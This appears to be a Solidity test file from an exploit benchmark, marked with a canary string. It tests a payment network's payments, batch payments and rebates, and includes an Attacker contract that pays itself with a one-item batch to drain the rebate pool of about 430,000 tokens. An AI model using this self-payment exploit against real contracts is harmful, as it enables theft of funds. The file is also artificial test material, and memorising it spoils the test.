// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./PaymentNetwork.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-6b4a742c-2e42-467c-a42c-abadb529613e

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private minter = msg.sender;

    constructor() ERC20("Token", "T") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant START = 683 * 30 days + 2 days;
    address internal constant BANK = address(0xBA4C);
    address internal constant SHOP = address(0x5409);

    Token internal usd;
    PaymentNetwork internal network;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        network = new PaymentNetwork(usd);
        _fund(BANK, 870_000_000e6);
        vm.prank(BANK);
        network.pay(SHOP, 866_200_000e6, "settlement");
        thief = new Attacker(network, usd);
        usd.mint(address(thief), 42_000e6);
    }

    function _fund(address who, uint256 amount) internal {
        usd.mint(who, amount);
        vm.prank(who);
        usd.approve(address(network), amount);
        vm.prank(who);
        network.deposit(amount);
    }

    function test_Regular() public {
        require(network.rebatePool(683) == 433_100e6, "pool");
        vm.prank(SHOP);
        require(network.pay(BANK, 2_000_000e6, "invoice") == 3_000e6, "fifteen points");
        address[] memory to = new address[](2);
        uint256[] memory amounts = new uint256[](2);
        (to[0], to[1]) = (BANK, address(0xABC));
        (amounts[0], amounts[1]) = (300_000e6, 200_000e6);
        vm.prank(SHOP);
        require(network.payBatch(to, amounts, "payroll") == 750e6, "one fee");
        require(network.balanceOf(address(0xABC)) == 200_000e6, "payroll");

        vm.prank(BANK);
        (bool ok, ) = address(network).call(abi.encodeCall(PaymentNetwork.claimRebate, (683)));
        require(!ok, "still running");
        vm.warp(START + 30 days);
        vm.prank(BANK);
        require(network.claimRebate(683) == 346_480e6, "four tenths");
        vm.prank(BANK);
        (ok, ) = address(network).call(abi.encodeCall(PaymentNetwork.claimRebate, (683)));
        require(!ok, "twice");
        network.collectFees();
        require(usd.balanceOf(address(this)) == 433_100e6 + 1_875e6, "fees");
        vm.prank(address(0xABC));
        network.withdraw(200_000e6);
    }

    function test_RefusesBatches() public {
        vm.expectRevert(PaymentNetwork.EmptyBatch.selector);
        network.payBatch(new address[](0), new uint256[](0), "");
        vm.expectRevert(abi.encodeWithSelector(PaymentNetwork.LengthMismatch.selector, 1, 2));
        network.payBatch(new address[](1), new uint256[](2), "");
        vm.expectRevert(abi.encodeWithSelector(PaymentNetwork.LengthMismatch.selector, 2, 1));
        network.payBatch(new address[](2), new uint256[](1), "");
    }

    function test_RefusesLowBalances() public {
        uint256 balance = network.balanceOf(BANK);
        vm.prank(BANK);
        network.withdraw(balance);
        bytes memory why = abi.encodeWithSelector(MemberBalances.BalanceTooLow.selector, BANK, 0);
        vm.prank(BANK);
        vm.expectRevert(why);
        network.withdraw(1);
        vm.prank(BANK);
        vm.expectRevert(why);
        network.pay(SHOP, 1, "");
    }

    function exploit() public {
        thief.enter();
        vm.warp(block.timestamp + 30 days);
        thief.collect(683);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 430_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(network);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Pays itself with a batch of one.
contract Attacker {
    PaymentNetwork internal network;
    Token internal usd;

    constructor(PaymentNetwork network_, Token usd_) {
        network = network_;
        usd = usd_;
    }

    function enter() external {
        usd.approve(address(network), 42_000e6);
        network.deposit(42_000e6);
        address[] memory to = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (to[0], amounts[0]) = (address(this), 40_000e6);
        network.payBatch(to, amounts, "");
    }

    function collect(uint256 period) external {
        network.claimRebate(period);
        network.withdraw(network.balanceOf(address(this)));
    }
}
